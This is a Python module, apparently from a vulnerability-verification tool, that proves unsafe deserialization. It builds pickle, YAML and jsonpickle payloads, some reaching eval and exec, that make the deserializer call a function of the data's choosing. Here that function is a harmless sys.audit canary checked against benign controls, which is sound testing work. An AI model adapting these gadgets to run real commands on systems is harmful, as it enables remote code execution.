"""How unsafe deserialization shows itself: the data chooses what is called."""

import json
from collections.abc import Mapping
from dataclasses import replace

from countermine.core.findings import Finding
from countermine.core.knowledge import WitnessMaker
from countermine.core.spans import TreePath
from countermine.core.witnesses import CANARY, Observation, Witness
from countermine.prove.drive.document_use import documents
from countermine.prove.drive.encodings import encoding_of
from countermine.prove.drive.maker import PlannedMaker
from countermine.prove.drive.making import Plan, trace_texts
from countermine.prove.drive.payloads import Payload
from countermine.prove.drive.pickles import CALL
from countermine.prove.drive.silence import place

# Every payload calls sys.audit: it tells the observer and does nothing else.
_PICKLE = "csys\naudit\n(S'countermine.mark'\nS'{canary}'\ntR."
_PICKLE_4 = f"\x80\x04{CALL}\x8c\x10countermine.mark\x8c\x0c{{canary}}\x86R."
# Through functions of the language, which an unpickler may let through as harmless.
_PICKLE_EVAL = "cbuiltins\neval\n(V__import__('sys').audit('countermine.mark','{canary}')\ntR."
_PICKLE_GETATTR = (
    "cbuiltins\ngetattr\n(cbuiltins\n__import__\n(Vsys\ntRVaudit\ntR"
    "(Vcountermine.mark\nV{canary}\ntR."
)
_PICKLE_BUILT = "(S'countermine.mark'\nS'{canary}'\nisys\naudit\n."
_PICKLED = "(dp0\nS'a'\nI1\ns."
_EXEC = "__import__(\\'sys\\').audit(\\'countermine.mark\\',\\'{canary}\\')"

_PICKLES = (
    Payload(name="reduce", text=_PICKLE),
    Payload(name="reduce-protocol-4", text=_PICKLE_4),
    Payload(name="instance", text=_PICKLE_BUILT),
    Payload(name="through-eval", text=_PICKLE_EVAL),
    Payload(name="through-getattr", text=_PICKLE_GETATTR),
)
_YAML = (
    Payload(
        name="apply", text="!!python/object/apply:sys.audit ['countermine.mark', '{canary}']\n"
    ),
    Payload(
        name="apply-in-mapping",
        text="a: !!python/object/apply:sys.audit ['countermine.mark', '{canary}']\n",
    ),
    Payload(
        name="new-type-with-state",
        text=(
            '!!python/object/new:type\nargs: ["cm", !!python/tuple [], '
            '{"extend": !!python/name:exec }]\n'
            f"listitems: '{_EXEC}'\n".replace("\\'", "''")
        ),
    ),
    Payload(
        name="full-tag",
        text=(
            "!<tag:yaml.org,2002:python/object/apply:sys.audit> ['countermine.mark', '{canary}']\n"
        ),
    ),
)
_JSON = (
    Payload(
        name="reduce",
        text=(
            '{"py/reduce": [{"py/function": "sys.audit"}, '
            '{"py/tuple": ["countermine.mark", "{canary}"]}]}'
        ),
    ),
)


def plan(finding: Finding, texts: Mapping[TreePath, bytes]) -> Plan:
    """Return data of the format that the sink reads, in the encoding that the target takes off."""
    sink = finding.sink.lower()
    if "yaml" in sink:
        control = Payload(
            name="plain-data",
            text="a: 1\nb: [x, y]\n",
            file_name="input.yaml",
            samples=(".yaml", ".yml"),
            # JSON is YAML, too.
            alternatives=tuple(f"{json.dumps(one)}\n" for one in documents(finding, texts)),
        )
        attacks = tuple(replace(one, file_name="input.yaml") for one in _YAML)
    elif "jsonpickle" in sink:
        control, attacks = Payload(name="plain-data", text='{"a": 1}'), _JSON
    else:
        control = Payload(name="plain-data", text=_PICKLED, file_name="input.pkl")
        attacks = tuple(replace(one, file_name="input.pkl") for one in _PICKLES)
    encoding = encoding_of(trace_texts(finding, texts))
    return Plan(
        attacks=tuple(replace(one, encoding=encoding) for one in attacks),
        controls=(replace(control, encoding=encoding),),
        as_file=True,
    )


def _shown(_witness: Witness, seen: Observation, _benign: Observation) -> str | None:
    for event in seen.events:
        if event.name == "mark" and event.get("canary") == CANARY:
            return f"the data called a function of its choice {place(event)}"
        if event.name == "pickle.find_class" and event.get("module") == "sys":
            return f"the data named a function of its choice and got it {place(event)}"
    return None


WITNESS: WitnessMaker = PlannedMaker(plan=plan, shown=_shown)
"""Writes data that calls a function; all the function does is tell the observer."""
